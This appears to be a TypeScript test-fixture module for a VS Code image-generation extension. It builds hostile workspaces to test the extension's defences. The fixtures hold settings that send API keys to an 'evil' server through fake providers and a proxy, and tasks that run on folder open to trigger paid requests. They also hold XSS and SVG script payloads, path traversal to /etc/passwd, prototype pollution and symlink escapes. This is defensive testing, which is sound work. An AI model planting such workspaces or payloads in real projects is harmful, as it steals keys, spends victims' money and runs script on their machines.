/**
 * Repositories that were made to get at the key or the money of whoever opens them. Each is a folder; `bait` says what it is after.
 * What a person does in it (`then`) is what the repository hopes for.
 */
import fs from 'node:fs';
import path from 'node:path';
import { customSettingFor } from '../fakes/custom-config.ts';
import { stripedPng } from '../fakes/png.ts';

export interface Bait {
  /** The server that the repository wants to be talked to. */
  readonly evil: string;
  /** The id of the service that its victim has a key for. */
  readonly service: string;
}

export interface HostileWorkspace {
  readonly name: string;
  /** Fills the folder of the project. @returns what is opened; the folder where it returns nothing */
  readonly fill: (project: string, bait: Bait) => string | void;
  /** It takes effect when it is opened; any other may as well come with a pull, into a window that is open. */
  readonly atOpening?: true;
  readonly then: 'generate' | 'run the task' | 'start debugging' | 'click the links' | 'look at the gallery';
}

/** Services that look free and lead to the evil server: a new one, and one that takes the place of the real one. */
function services({ evil, service }: Bait): unknown[] {
  const named = (id: string, label: string): unknown => {
    const setting = customSettingFor(evil, 'none', { id, label, key: { header: 'Authorization', value: 'Bearer ${key}' }, keyTest: { path: '/v1/account' }, fileOrigins: [evil] });
    return { ...setting, models: setting.models.map(model => ({ ...model, price: 0 })) };
  };
  return [named(service, 'Evil twin'), named('evil', 'Evil service'), named('embedded', 'Evil built-in')];
}

/** Everything of ours that spends, redirects or deletes, as settings. */
function settings(bait: Bait): Record<string, unknown> {
  return { 'darkroom.customProviders': services(bait), 'darkroom.dailyLimit': 1_000_000 };
}

function nested(bait: Bait): Record<string, unknown> {
  return { darkroom: { customProviders: services(bait), dailyLimit: 1_000_000 } };
}

function proxy({ evil }: Bait): Record<string, unknown> {
  return {
    'http.proxy': evil, 'http.proxySupport': 'override', 'http.proxyStrictSSL': false, 'http.noProxy': [], 'http.proxyAuthorization': 'Basic AAAA', 'http.useLocalProxyConfiguration': true,
    'http.systemCertificates': false, 'http.fetchAdditionalSupport': false,
    'terminal.integrated.env.linux': { HTTP_PROXY: evil, http_proxy: evil, ALL_PROXY: evil },
  };
}

/** A request that costs money, as a command's argument. */
function request({ service }: Bait): Record<string, unknown> {
  return { provider: service, model: 'picture-1', operation: 'text-to-image', prompt: 'paid for by you', parameters: { count: 4 } };
}

export function write(folder: string, name: string, content: unknown): void {
  const file = path.join(folder, name);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, typeof content === 'string' || Buffer.isBuffer(content) ? content : JSON.stringify(content, null, 2));
}

const inputs = (bait: Bait): unknown[] => [
  { id: 'pay', type: 'command', command: 'darkroom.generate', args: request(bait) },
  { id: 'retry', type: 'command', command: 'darkroom.retry', args: 'some-generation' },
];

export const hostileWorkspaces: readonly HostileWorkspace[] = [
  {
    name: 'settings with a dotted name', then: 'generate',
    fill: (project, bait) => write(project, '.vscode/settings.json', settings(bait)),
  },
  {
    name: 'settings nested in an object', then: 'generate',
    fill: (project, bait) => write(project, '.vscode/settings.json', nested(bait)),
  },
  {
    name: 'settings of languages, profiles, machines and containers', then: 'generate',
    fill(project, bait) {
      const all = { ...settings(bait), ...nested(bait) };
      write(project, '.vscode/settings.json', {
        '[markdown]': all, '[json][markdown]': settings(bait), '[*]': all, 'workbench.settings.applyToAllProfiles': ['darkroom.customProviders', 'darkroom.dailyLimit'],
        'workbench.experimental.settingsProfiles.enabled': true, profiles: { default: all }, 'darkroom.profiles': all, 'settings.darkroom.customProviders': services(bait),
        'remote.machine.settings': all, 'security.workspace.trust.enabled': false, 'extensions.supportUntrustedWorkspaces': { 'darkroom.darkroom': { supported: true } },
      });
      write(project, 'user.code-profile', { name: 'default', settings: JSON.stringify({ settings: JSON.stringify(all) }) });
      for (const name of ['.vscode/profiles/default/settings.json', '.vscode-server/data/Machine/settings.json', 'data/Machine/settings.json', 'settings.json']) write(project, name, all);
      write(project, '.devcontainer/devcontainer.json', { image: 'scratch', customizations: { vscode: { settings: all, extensions: ['darkroom.darkroom'] } } });
      write(project, '.vscode/extensions.json', { recommendations: ['darkroom.darkroom', 'evil.evil'], unwantedRecommendations: [] });
      write(project, '.vscode/keybindings.json', [{ key: 'ctrl+s', command: 'darkroom.generate', args: request(bait) }]);
    },
  },
  {
    name: 'a workspace file with settings', then: 'generate', atOpening: true,
    fill(project, bait) {
      write(project, 'game.code-workspace', { folders: [{ path: '.' }], settings: { ...settings(bait), ...nested(bait), '[markdown]': settings(bait) } });
      return path.join(project, 'game.code-workspace');
    },
  },
  {
    name: 'settings of each folder of a workspace', then: 'generate', atOpening: true,
    fill(project, bait) {
      write(project, 'one/.vscode/settings.json', settings(bait));
      write(project, 'two/.vscode/settings.json', { ...nested(bait), 'darkroom.outputFolder': '../../escaped' });
      write(project, 'both.code-workspace', { folders: [{ path: 'one' }, { path: 'two' }], settings: nested(bait) });
      return path.join(project, 'both.code-workspace');
    },
  },
  {
    name: 'a proxy for everything', then: 'generate',
    fill: (project, bait) => write(project, '.vscode/settings.json', { ...proxy(bait), ...settings(bait) }),
  },
  {
    name: 'a folder for results above the project', then: 'generate',
    fill: project => write(project, '.vscode/settings.json', { 'darkroom.outputFolder': '../escaped', darkroom: { outputFolder: 'assets/../../escaped' } }),
  },
  {
    name: 'a folder for results anywhere on the machine', then: 'generate',
    fill: project => write(project, '.vscode/settings.json', { 'darkroom.outputFolder': path.join(path.dirname(project), 'escaped') }),
  },
  {
    name: 'a folder for results behind a link out of the project', then: 'generate',
    fill(project) {
      fs.mkdirSync(path.join(path.dirname(project), 'behind'));
      fs.symlinkSync(path.join('..', 'behind'), path.join(project, 'assets'));
    },
  },
  {
    name: 'tasks that call commands', then: 'run the task', atOpening: true,
    fill(project, bait) {
      write(project, '.vscode/settings.json', { 'task.allowAutomaticTasks': 'on' });
      write(project, '.vscode/tasks.json', {
        version: '2.0.0', inputs: inputs(bait),
        tasks: [
          { label: 'build', type: 'shell', command: 'echo', args: ['${input:pay}'], problemMatcher: [], presentation: { reveal: 'never' }, runOptions: { runOn: 'folderOpen' } },
          { label: 'prepare', type: 'shell', command: 'echo ${command:darkroom.cancelAll} ${input:retry}', problemMatcher: [], presentation: { reveal: 'never' }, runOptions: { runOn: 'folderOpen' } },
        ],
      });
    },
  },
  {
    name: 'a launch configuration that calls commands', then: 'start debugging',
    fill: (project, bait) => write(project, '.vscode/launch.json', {
      version: '0.2.0', inputs: inputs(bait),
      configurations: [{ type: 'node', request: 'launch', name: 'Start', program: '${workspaceFolder}/start.js', args: ['${input:pay}'] }],
    }),
  },
  {
    name: 'a README whose links are commands', then: 'click the links',
    fill(project, bait) {
      const link = (command: string, ...args: unknown[]): string => `command:${command}?${encodeURIComponent(JSON.stringify(args))}`;
      write(project, 'README.md', `# Read me\n\n[Step 1](${link('darkroom.generate', request(bait))})\n\n<a href="${link('darkroom.removeKey')}">Step 2</a>\n`);
    },
  },
  {
    name: 'committed results with hostile sidecars, names and histories', then: 'look at the gallery', atOpening: true,
    fill(project, bait) {
      const script = 'globalThis.pwned=true';
      const markup = `<img src="${bait.evil}/pixel" onerror="${script}"><script>${script}</script>[click](command:darkroom.cancelAll) $(alert)`;
      const folder = path.join(project, 'assets/generated');
      const names = ['plain', `<img src=x onerror=${script}>`, '"><script>globalThis.pwned=true<', '[click](command:darkroom.generate) $(alert)', '\u202egnp.exe', '&lt;b&gt;', `'onload='${script}'`, 'x'.repeat(200), 'CON', ' .. '];
      for (const [at, name] of names.entries()) {
        write(folder, `${name}.png`, stripedPng(32, 32, at));
        write(folder, `${name}.png.darkroom.json`, {
          darkroom: 1, generation: at % 2 === 0 ? markup : '../../../../etc/passwd', attempt: markup, remoteId: markup, provider: bait.service, model: markup, operation: 'text-to-image', prompt: markup,
          parameters: { width: markup, __proto__: { polluted: true } }, output: { position: -1, count: 1e9 }, createdAt: 'never', sentAt: null, finishedAt: null, cost: -1e12,
          file: { name: '../../../../../../etc/passwd', sha256: 'z'.repeat(64), size: -1, width: 1e9, height: 1e9 },
        });
      }
      write(folder, 'huge.png', stripedPng(32, 32, 99));
      write(folder, 'huge.png.darkroom.json', `{"darkroom":1,"prompt":"${'a'.repeat(5_000_000)}","nested":${'['.repeat(20_000)}${']'.repeat(20_000)}}`);
      write(folder, 'broken.png.darkroom.json', '{"darkroom":1,');
      write(folder, 'page.png', `<!doctype html><script>${script}</script><img src="${bait.evil}/page">`);
      write(folder, 'drawing.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script><image href="${bait.evil}/svg"/></svg>`);
      fs.symlinkSync('/etc/passwd', path.join(folder, 'link.png'));
      for (const name of ['history.db', 'ledger.db', '.vscode/history.db', 'assets/generated/history.db', '.darkroom/history.db']) write(project, name, Buffer.concat([Buffer.from('SQLite format 3\0'), Buffer.alloc(4096, 7)]));
    },
  },
];

/** What each of them brings, in one folder; of files that several bring the last one counts. */
export const allAtOnce: HostileWorkspace = {
  name: 'all at once', then: 'generate',
  fill(project, bait) {
    for (const { fill, name } of hostileWorkspaces) if (!name.includes('link out')) fill(project, bait);
    write(project, '.vscode/settings.json', { ...proxy(bait), ...settings(bait), ...nested(bait), 'security.workspace.trust.enabled': false, 'task.allowAutomaticTasks': 'on' });
  },
};
